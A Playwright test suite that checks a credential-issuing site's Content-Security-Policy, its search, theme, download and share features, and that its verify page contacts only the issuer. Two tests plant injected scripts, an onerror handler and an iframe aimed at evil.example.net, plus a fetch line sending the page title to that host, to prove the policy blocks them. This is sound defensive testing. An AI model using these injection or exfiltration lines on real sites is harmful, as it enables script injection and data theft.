"""What the policy of every page lets happen, in a real browser: all that the site does, and nothing else."""

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from support.intercepted import Hosts
from support.page_kinds import KINDS
from support.signed import HOST, SETTLED, verdict
from support.waiting import eventually

pytestmark = pytest.mark.browser

VALID = "26f2w5c23vfg"
Serve = Callable[[Path], str]
LISTEN = "addEventListener('securitypolicyviolation', (event) => console.error('refused', event.violatedDirective));"
PLANTED = (
    "<script>document.title = 'planted'</script>"
    '<script src="https://evil.example.net/script.js"></script>'
    '<img src="https://evil.example.net/image.png" onerror="document.title = \'planted\'">'
    '<link rel="stylesheet" href="https://evil.example.net/style.css">'
    '<iframe src="https://evil.example.net/"></iframe>'
    "<style>h1 { display: none }</style>"
)


def watched(chromium: Browser) -> tuple[Page, list[str], list[str]]:
    """A page, the errors that its console shows, and the addresses that it asks for."""
    page = chromium.new_context(accept_downloads=True).new_page()
    page.add_init_script(LISTEN)
    errors: list[str] = []
    asked: list[str] = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("request", lambda request: asked.append(request.url))
    return page, errors, asked


@pytest.mark.parametrize("kind", KINDS)
def test_every_page_has_a_policy_and_keeps_to_it(
    chromium: Browser, serve: Serve, example_site: Path, kind: str
) -> None:
    address = serve(example_site)
    page, errors, asked = watched(chromium)
    page.goto(address + kind)
    page.wait_for_load_state("networkidle")
    head = page.evaluate("[...document.head.children].slice(0, 2).map((e) => e.httpEquiv || e.getAttribute('charset'))")
    page.context.close()
    assert head == ["utf-8", "Content-Security-Policy"]
    assert errors == []
    assert [other for other in asked if not other.startswith(address)] == []


def test_search_and_colours_work(chromium: Browser, serve: Serve, example_site: Path) -> None:
    page, errors, asked = watched(chromium)
    address = serve(example_site)
    page.goto(f"{address}about/")
    page.wait_for_load_state("networkidle")
    # Before its index is read, the search does not hear what is typed.
    eventually(page, "document.querySelector('.md-search-result__meta').textContent.includes('Type')")
    page.fill(".md-search__input", "discussion")
    page.wait_for_selector(".md-search-result__item a", state="attached")
    page.keyboard.press("Escape")
    before = page.evaluate("getComputedStyle(document.body).backgroundColor")
    for _ in range(2):  # what the system says is light; then light; then dark
        page.locator("form[data-md-component=palette] label:not([hidden])").click()
    eventually(page, f"getComputedStyle(document.body).backgroundColor !== '{before}'")
    page.goto(f"{address}a/{VALID}/")
    assert page.locator("html").get_attribute("data-md-color-scheme") == "slate"
    page.context.close()
    assert errors == []
    assert {url for url in asked if not url.startswith(address)} == set()


def test_the_buttons_of_an_award_work(chromium: Browser, serve: Serve, example_site: Path) -> None:
    page, errors, _ = watched(chromium)
    page.goto(f"{serve(example_site)}a/{VALID}/")
    page.wait_for_selector(SETTLED)
    for form in ("PNG", "SVG"):
        with page.expect_download():
            page.get_by_role("button", name=f"{form}: picture with the credential inside").click()
    page.evaluate("window.print = () => { document.body.dataset.printed = 'yes'; }")
    for button in page.locator(".share-buttons button:visible").all():
        button.click()
    page.context.close()
    assert errors == []


def test_the_catalog_and_the_form_for_assessors_work(chromium: Browser, serve: Serve, example_site: Path) -> None:
    page, errors, _ = watched(chromium)
    address = serve(example_site)
    page.goto(f"{address}catalog/")
    page.fill("#catalog-search", "zzzz")
    page.wait_for_selector("[data-nothing]:not([hidden])")
    page.goto(f"{address}contribute/")
    page.wait_for_selector("#award:not([hidden])")
    page.locator("#award button[type=submit]").first.click()
    page.wait_for_selector("[data-summary]:not([hidden])")
    page.context.close()
    assert errors == []


def test_the_verify_page_may_ask_the_issuer_of_what_a_visitor_brings(chromium: Browser, signed_site: Path) -> None:
    page, errors, _ = watched(chromium)
    hosts = Hosts({HOST: signed_site, "other.example.net": signed_site})
    hosts.answer(page.context)
    page.goto("https://other.example.net/verify/")
    page.locator("input[type=file]").set_input_files(signed_site / "a" / VALID / "credential.json")
    page.wait_for_selector(SETTLED)
    assert verdict(page) == "valid"
    page.context.close()
    assert errors == []
    foreign = {address for address in hosts.requests if "other.example.net" not in address}
    files = ("issuer/did.json", "status/2026.json", f"a/{VALID}/credential.json")
    assert foreign == {f"https://{HOST}/{file}" for file in files}


@pytest.mark.parametrize("kind", ["about/", "catalog/", f"a/{VALID}/", "verify/"])
def test_what_somebody_plants_does_nothing(chromium: Browser, signed_site: Path, tmp_path: Path, kind: str) -> None:
    site = tmp_path / "site"
    shutil.copytree(signed_site, site)
    file = site / kind / "index.html"
    file.write_text(file.read_text("utf-8").replace("</body>", f"{PLANTED}</body>"), "utf-8")
    page, errors, _ = watched(chromium)
    hosts = Hosts({HOST: site, "evil.example.net": site})
    hosts.answer(page.context)
    page.goto(f"https://{HOST}/{kind}")
    page.wait_for_load_state("networkidle")
    assert page.title() != "planted"
    assert page.locator("h1").first.is_visible()
    page.context.close()
    refused = {error.removeprefix("refused ") for error in errors if error.startswith("refused ")}
    assert refused == {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "frame-src"}
    assert [address for address in hosts.requests if "evil.example.net" in address] == []


def test_an_award_page_asks_nobody_but_its_issuer(chromium: Browser, signed_site: Path, tmp_path: Path) -> None:
    """A script of the site that somebody changed could not carry anything to another host."""
    site = tmp_path / "site"
    shutil.copytree(signed_site, site)
    with (site / "assets" / "share.mjs").open("a", encoding="utf-8") as script:
        script.write('\nfetch("https://evil.example.net/?" + document.title);\n')
    page, errors, _ = watched(chromium)
    hosts = Hosts({HOST: site, "evil.example.net": site})
    hosts.answer(page.context)
    page.goto(f"https://{HOST}/a/{VALID}/")
    page.wait_for_selector(SETTLED)
    page.context.close()
    assert "refused connect-src" in errors
    assert [address for address in hosts.requests if "evil.example.net" in address] == []
